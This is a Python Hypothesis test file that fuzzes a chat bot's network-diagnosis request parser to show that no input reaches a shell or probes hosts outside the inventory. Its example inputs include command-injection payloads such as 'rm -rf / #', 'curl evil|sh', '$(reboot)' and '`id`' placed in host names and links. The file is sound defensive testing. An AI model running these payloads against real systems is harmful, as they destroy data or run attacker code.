"""Property: no input crashes the parser, probes outside the inventory, or reaches a shell.

For arbitrary text (unicode, shell metacharacters, Slack markup, inventory
words in any order), ``parse_request`` + ``resolve_request`` either raise
``BadInput`` or return Requests whose target is an inventory host (or an
address inside ``allowed_targets``) and whose every string field is a string
*of the inventory* — so no character of the input can reach a command line.
"""

from __future__ import annotations

import ipaddress

from hypothesis import example, given, settings
from hypothesis import strategies as st

from bot.request import INTENTS, parse_request, resolve_hosts, resolve_request
from probes.errors import BadInput

from .conftest import INVENTORY as INV

ALLOWED = ipaddress.ip_network("10.20.0.0/16")
SHELL_META = set(";|&$()`'\"<>\\ \t\n*?[]{}~#!%^=,")

HOSTS = INV.hosts
VANTAGES = INV.vantages()
INVENTORY_STRINGS: set[str] = set(HOSTS) | set(VANTAGES)
for _h in HOSTS.values():
    INVENTORY_STRINGS |= {_h.address, *_h.aliases, *_h.services, *_h.groups}
for _v in VANTAGES.values():
    INVENTORY_STRINGS |= {_v.host.name, _v.host.address}
INVENTORY_CHARS = set("".join(INVENTORY_STRINGS))

KNOWN = sorted(INVENTORY_STRINGS | {s.upper() for s in INVENTORY_STRINGS}) + [
    "why",
    "can't",
    "can’t",
    "cant",
    "I",
    "connect",
    "to",
    "reach",
    "is",
    "reachable",
    "from",
    "and",
    "on",
    "port",
    "service",
    "everywhere",
    "all",
    "help",
    "ack",
    "resolve",
    "incident",
    "incidents",
    "show",
    "drift",
    "history",
    "rerun",
    "verify",
    "evidence",
    "analyze",
    "group:db",
    "<@U123ABC>",
    "<!channel>",
    "?",
    "!",
    "5432",
    "443",
    "0",
    "65536",
    "10.20.3.4",
    "10.20.255.255",
    "10.21.0.1",
    "[2001:db8::10]",
    "::ffff:198.18.0.10",
    "fe80::1%eth0",
    "user@",
    "mailto:",
    "http://",
    "tcp/",
    "#12",
]
META = st.text(
    alphabet=sorted(SHELL_META) + ["\u2019", "\u201c", "\u0000", "\u202e", "é", "ß", "İ", "٣", "🙂"], max_size=6
)
PIECE = st.one_of(st.sampled_from(KNOWN), META, st.text(max_size=8), st.integers(-5, 70000).map(str))
SEP = st.sampled_from([" ", " ", ", ", ":", "", "|", "<", ">", "\n", "@"])


@st.composite
def soup(draw: st.DrawFn) -> str:
    pieces = draw(st.lists(PIECE, min_size=1, max_size=10))
    out = pieces[0]
    for p in pieces[1:]:
        out += draw(SEP) + p
    if draw(st.booleans()):
        label = draw(PIECE)
        out = out.replace(label, f"<http://{label}|{label}>", 1) if label else out
    return out


def check(text: str) -> None:
    try:
        parsed = parse_request(text)
        requests = resolve_request(parsed, INV)
        hosts = resolve_hosts(parsed, INV)
    except BadInput:
        return
    assert parsed.intent in INTENTS  # the registry's chat commands
    for h in hosts:  # drift/history: inventory hosts only, never ad-hoc
        assert HOSTS.get(h.name) == h
    if parsed.intent != "diagnose":
        assert requests == []
        for a in parsed.args if parsed.intent in ("incident", "ack", "resolve", "rerun", "verify", "evidence") else []:
            assert a.isdigit() and a.isascii()
        return
    assert 1 <= len(requests) <= 5
    for r in requests:
        host = HOSTS.get(r.target)
        if host is not None:
            assert r.address == host.address
            if r.service is not None:
                assert host.services[r.service] == r.port
        else:  # an ad-hoc target: an address inside allowed_targets, canonical text, a port given
            ip = ipaddress.ip_address(r.target)
            assert ip in ALLOWED and r.target == r.address == str(ip) and r.service is None
            assert r.port is not None
        assert r.port is None or 1 <= r.port <= 65535
        assert r.vantages and r.vantages[0] == "bot" and len(set(r.vantages)) == len(r.vantages)
        fields = [r.target, r.address, *([r.service] if r.service else []), *r.vantages]
        for f in fields:
            inventory_made = f in INVENTORY_STRINGS or (host is None and f == r.target)
            assert inventory_made, f"{f!r} did not come from the inventory"
            assert set(f) <= INVENTORY_CHARS | set("0123456789abcdef.:"), f
            assert not set(f) & SHELL_META, f
        for v in r.vantages:
            assert v in VANTAGES or v in HOSTS


@settings(max_examples=600)
@given(st.text(max_size=200))
@example("why can't I connect to db01; rm -rf / #")
@example("db01:5432 && curl evil|sh")
@example("db01:$(reboot)")
@example("`reboot` db01")
@example("<http://$(id)|db01>")
@example("<mailto:a@db01;id|db01>")
@example("[2001:db8::10;id]:5432")
@example("10.20.0.1:443'\"")
@example("db01:5432 from office;id")
@example("is db01:5432 reachable from dc and office\u202e")
def test_arbitrary_text(text):
    check(text)


@settings(max_examples=1500)
@given(soup())
def test_inventory_words_mixed_with_metacharacters(text):
    check(text)


TARGETS = sorted(
    set(HOSTS)
    | {a for h in HOSTS.values() for a in h.aliases}
    | {h.address for h in HOSTS.values()}
    | {"10.20.3.4", "[2001:db8::10]", "DB01", "db01x", "10.21.0.1"}
)
VANTAGE_WORDS = sorted(
    set(VANTAGES)
    | set(HOSTS)
    | {n.upper() for n in HOSTS}
    | {h.address for h in HOSTS.values()}
    | {"everywhere", "mars", "OFFICE"}
)


@st.composite
def sentence(draw: st.DrawFn) -> str:
    """Well-formed questions with metacharacters and unicode spliced in anywhere."""
    lead = draw(st.sampled_from(["", "<@U123ABC> ", "why can't I connect to ", "why can’t ", "is ", "hey whycant, "]))
    subject = draw(st.sampled_from(["", *VANTAGE_WORDS])) if lead == "why can’t " else ""
    target = draw(st.sampled_from(TARGETS))
    if draw(st.booleans()):
        target = f"<http://{target}|{target}>"
    port = draw(
        st.sampled_from(
            [
                "",
                ":5432",
                ":443",
                ":postgres",
                ":PostGres",
                ":pgbouncer",
                " PGBOUNCER",
                " 6432",
                " on 80",
                " port 0",
                ":http",
                " service HTTPS",
            ]
        )
    )
    vs = draw(st.lists(st.sampled_from(VANTAGE_WORDS), max_size=3))
    tail = f" from {' and '.join(vs)}" if vs else ""
    verb = " reach " if subject else ""
    text = f"{lead}{subject}{verb}{target}{port}{' reachable' if lead == 'is ' else ''}{tail}"
    for _ in range(draw(st.integers(0, 2))):
        i = draw(st.integers(0, len(text)))
        text = text[:i] + draw(META) + text[i:]
    return text + draw(st.sampled_from(["", "?", "!", "...", ";id", "$(id)", "`id`"]))


@settings(max_examples=1500)
@given(sentence())
def test_questions_with_injected_metacharacters(text):
    check(text)


@settings(max_examples=300)
@given(st.sampled_from(["db01", "primary", "198.18.0.10", "db03.internal.example"]), META, META)
def test_payload_around_a_real_host(host, before, after):
    check(f"why can't I connect to {before}{host}{after}")
    check(f"{host}:{after}5432{before} from office{after}")
